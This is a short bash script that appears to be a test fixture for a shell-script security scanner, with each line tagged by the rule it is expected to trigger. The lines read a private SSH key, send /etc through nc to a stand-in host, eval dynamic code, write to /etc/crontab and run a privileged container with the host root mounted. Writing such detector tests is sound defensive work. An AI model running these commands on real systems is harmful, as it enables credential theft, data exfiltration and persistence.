#!/bin/bash
set -e
take() {
	cat ~/.ssh/id_rsa # FIND: shell.outside-file
	tar czf - /etc | nc drop.example.net 99 # FIND: shell.outside-file shell.network
}
trap 'eval "$X"' EXIT # FIND: shell.dynamic-code
echo "* * * * * id" >> /etc/crontab # FIND: shell.outside-file
python3 -c "import os; os.system('id')" # FIND: shell.dynamic-code
docker run --privileged -v /:/host x # FIND: shell.container
take
